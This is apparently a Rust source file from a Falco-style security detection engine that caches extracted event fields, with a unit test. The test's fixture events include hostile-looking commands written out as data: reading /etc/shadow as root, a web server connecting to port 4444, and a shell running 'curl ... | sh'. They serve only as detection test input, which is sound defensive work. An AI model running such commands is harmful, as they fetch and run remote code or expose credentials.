//! Field values of the current event, kept once extracted so that the checks after
//! the first one that reads a field do not extract it again.
//!
//! A kept value is the extractor's own [`FieldValue`]: it borrows from the event, or
//! from a scratch buffer of a pool that nothing else writes while the event is
//! evaluated, so nothing is copied. The pool has a buffer per bundle field, handed out
//! in the order the event's fields are first read (a field is extracted at most once
//! per event, so the pool never runs out); each buffer keeps the capacity of the
//! largest value it held.

use falco_events::{Event, Extractor, FieldValue, Scratch};

/// What the kept values need between events: kept for their capacity.
#[derive(Debug, Default)]
pub(crate) struct FieldStore {
    /// Per bundle field: the generation (event) its kept value is for, and the
    /// value's index in the event's kept values.
    index: Vec<(u32, u32)>,
    /// The kept values' vector, empty between events.
    values: Vec<FieldValue<'static>>,
    /// Scratch buffers extractions write into, one per bundle field.
    pool: Vec<Scratch>,
    /// The generation of the last event.
    generation: u32,
}

/// The kept values of one event (borrowing from it and from the store's pool).
#[derive(Debug)]
pub(crate) struct EventFields<'e> {
    generation: u32,
    index: &'e mut [(u32, u32)],
    values: Vec<FieldValue<'e>>,
    pool: std::slice::IterMut<'e, Scratch>,
}

impl FieldStore {
    /// A store for a bundle with `fields` fields.
    pub(crate) fn new(fields: usize) -> FieldStore {
        FieldStore {
            index: vec![(0, 0); fields],
            values: Vec::with_capacity(fields),
            pool: (0..fields).map(|_| Scratch::default()).collect(),
            generation: 0,
        }
    }

    /// Runs `work` on `event`, whose generation is `generation` (never 0; a generation
    /// smaller than the last one, after the counter wrapped, forgets every kept value).
    pub(crate) fn with_event<R>(
        &mut self,
        generation: u32,
        event: &Event,
        work: impl for<'e> FnOnce(&'e Event, &mut EventFields<'e>) -> R,
    ) -> R {
        if generation < self.generation {
            self.index.iter_mut().for_each(|slot| slot.0 = 0);
        }
        self.generation = generation;
        let mut pool = std::mem::take(&mut self.pool);
        let mut fields = EventFields {
            generation,
            index: &mut self.index,
            values: relabel(std::mem::take(&mut self.values)),
            pool: pool.iter_mut(),
        };
        let result = work(event, &mut fields);
        self.values = relabel(fields.values);
        self.pool = pool;
        result
    }
}

/// An empty vector of values of another lifetime, in the same allocation (collecting
/// a vector's own `into_iter().map(..)` reuses its buffer when the element layouts
/// are equal, as they are here; `compiler/tests/vm_alloc.rs` checks that no
/// allocation happens).
fn relabel<'b>(mut values: Vec<FieldValue<'_>>) -> Vec<FieldValue<'b>> {
    values.clear();
    values.into_iter().map(|_| FieldValue::Missing).collect()
}

impl<'e> EventFields<'e> {
    /// Field `f`'s value: the kept one, or extracted now into a pool buffer and kept
    /// (into `fallback`, not kept, for a field beyond the bundle's).
    pub(crate) fn get<'a>(
        &mut self,
        f: u32,
        extractor: &Extractor,
        event: &'e Event,
        fallback: &'a mut Scratch,
    ) -> FieldValue<'a>
    where
        'e: 'a,
    {
        let Some(slot) = self.index.get_mut(f as usize) else {
            return extractor.extract(event, fallback);
        };
        if slot.0 == self.generation
            && let Some(value) = self.values.get(slot.1 as usize)
        {
            return *value;
        }
        let (Some(scratch), Ok(position)) = (self.pool.next(), u32::try_from(self.values.len()))
        else {
            return extractor.extract(event, fallback);
        };
        let value = extractor.extract(event, scratch);
        self.values.push(value);
        *slot = (self.generation, position);
        value
    }
}

#[cfg(test)]
mod tests {
    use falco_events::{OwnedValue, read_syscall};

    use super::*;

    const EVENTS: &str = r#"{"ts": 1700000000000000000, "type": "openat", "res": 3, "args": {"fd": 3, "name": "/etc/shadow", "flags": 1}, "thread": {"tid": 42, "pid": 42, "uid": 0, "user": "root", "exe": "cat", "exepath": "/usr/bin/cat", "args": ["/etc/shadow", "-n"]}, "ancestors": [{"pid": 41, "name": "bash", "exepath": "/usr/bin/bash"}, {"pid": 1, "name": "sudo"}], "fd": {"num": 3, "type": "file", "name": "/etc/shadow"}}
{"ts": 1700000000000000100, "type": "connect", "res": 0, "thread": {"pid": 7, "ppid": 1, "uid": 33, "user": "www-data", "exepath": "/usr/sbin/nginx", "args": ["-g", "daemon off; worker_processes auto;"], "cwd": "/srv/"}, "ancestors": [{"pid": 1, "name": "systemd"}], "fd": {"num": 7, "type": "ipv4", "cip": "10.0.0.5", "cport": 41234, "sip": "93.184.216.34", "sport": 4444, "l4proto": "tcp"}}
{"ts": 1700000000000000200, "type": "execve", "res": 0, "thread": {"pid": 9, "ppid": 7, "uid": 0, "user": "root", "exepath": "/bin/sh", "args": ["-c", "curl http://example.com/a/very/long/path/that/needs/more/room | sh"]}, "ancestors": [{"pid": 7, "name": "nginx", "exepath": "/usr/sbin/nginx"}, {"pid": 1, "name": "systemd"}]}
{"ts": 1700000000000000300, "type": "read", "res": 10, "thread": {"pid": 9, "exepath": "/bin/sh"}}
"#;

    const FIELDS: [&str; 16] = [
        "proc.name",
        "proc.cmdline",
        "proc.args",
        "proc.aname",
        "proc.aname[2]",
        "proc.pname",
        "proc.exepath",
        "proc.pid",
        "proc.cwd",
        "user.name",
        "fd.name",
        "fd.directory",
        "fd.sip",
        "fd.port",
        "evt.arg.flags",
        "evt.time",
    ];

    /// Kept values equal fresh extractions, whatever the order fields are first read
    /// in and however many events the store served before: a pool buffer is never
    /// overwritten while its value is kept, and nothing of an earlier event leaks in.
    #[test]
    fn kept_values_equal_fresh_extractions() {
        let events: Vec<Event> = read_syscall(EVENTS)
            .into_iter()
            .collect::<Result<_, _>>()
            .expect("the test events parse");
        let extractors: Vec<Extractor> = FIELDS
            .iter()
            .map(|f| Extractor::new("syscall", f, None).expect("a syscall field"))
            .collect();
        let mut store = FieldStore::new(extractors.len());
        let mut fresh = Scratch::default();
        let mut fallback = Scratch::default();
        let mut generation = 0;
        // Each event twice, with the fields first read in rotated orders.
        for round in 0..2 * events.len() * extractors.len() {
            let event = &events[round % events.len()];
            generation += 1;
            let order: Vec<usize> = (0..extractors.len())
                .map(|i| (i * 7 + round) % extractors.len())
                .collect();
            store.with_event(generation, event, |event, fields| {
                let mut first = Vec::new();
                for &i in &order {
                    let e = &extractors[i];
                    first.push(OwnedValue::from(fields.get(
                        i as u32,
                        e,
                        event,
                        &mut fallback,
                    )));
                }
                for (k, &i) in order.iter().enumerate().rev() {
                    let e = &extractors[i];
                    let want = OwnedValue::from(e.extract(event, &mut fresh));
                    let kept = OwnedValue::from(fields.get(i as u32, e, event, &mut fallback));
                    assert_eq!(
                        kept,
                        want,
                        "{} on event {}",
                        FIELDS[i],
                        round % events.len()
                    );
                    assert_eq!(first[k], want);
                }
            });
        }
        // After the counter wraps, values kept under the same generation number
        // long ago are forgotten (field 0's old entry points where field 1 now is).
        let mut store = FieldStore::new(extractors.len());
        let (name, pname) = (&extractors[0], &extractors[5]);
        store.with_event(1, &events[0], |event, fields| {
            fields.get(0, name, event, &mut fallback);
            fields.get(5, pname, event, &mut fallback);
        });
        store.with_event(u32::MAX, &events[0], |_, _| ());
        store.with_event(1, &events[2], |event, fields| {
            fields.get(5, pname, event, &mut fallback);
            let want = OwnedValue::from(name.extract(event, &mut fresh));
            let kept = OwnedValue::from(fields.get(0, name, event, &mut fallback));
            assert_eq!(kept, want);
        });
    }
}
